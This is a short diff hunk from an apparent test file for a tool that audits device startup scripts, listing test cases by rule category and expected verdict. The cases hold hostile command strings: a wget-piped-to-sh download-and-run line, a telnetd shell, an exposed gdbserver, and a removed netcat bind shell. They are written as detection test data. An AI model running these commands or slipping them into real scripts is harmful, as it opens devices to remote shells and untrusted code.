@@ -62,7 +62,6 @@ def answers(rule: Rule, script: bytes, files: Files) -> tuple[str, ...]:
         (CONTROL, b"wget -q -O - http://cmd.maker.net/run | sh", {}, "refutes"),
         (INTERNET_SIDE, b"fw3 start\ndropbear", {"etc/config/firewall": ZONE + OPEN}, "suspects"),
         (DEBUG, b"gdbserver :1234 /bin/app &", {}, "refutes"),
-        (DEBUG, b"nc -ll -p 99 -e /bin/sh &", {}, "refutes"),
         (DEBUG, b"telnetd -l /bin/sh", {}, "refutes"),
         (SEEDS, LOAD, {"etc/random-seed": SEED}, "suspects"),
     ],
